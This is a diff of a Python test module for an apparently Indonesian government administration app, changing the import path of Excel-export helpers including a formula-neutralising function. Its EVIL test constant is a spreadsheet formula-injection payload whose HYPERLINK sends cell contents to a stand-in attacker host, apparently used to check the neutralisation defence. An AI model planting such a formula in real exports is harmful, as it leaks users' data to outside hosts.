@@ -11,7 +11,7 @@ from apps.bakesbangpol.pembinaan.admin import ParpolResource
 from apps.bakesbangpol.pembinaan.models import Parpol
 from apps.bakesbangpol.umum.admin import KlasifikasiResource
 from apps.bakesbangpol.umum.models import KlasifikasiArsip
-from apps.laporan.excel import neutralise_formula, xlsx_response
+from apps.docflow.excel import neutralise_formula, xlsx_response
 from tests.conftest import advance_skt, make_skt
 
 EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
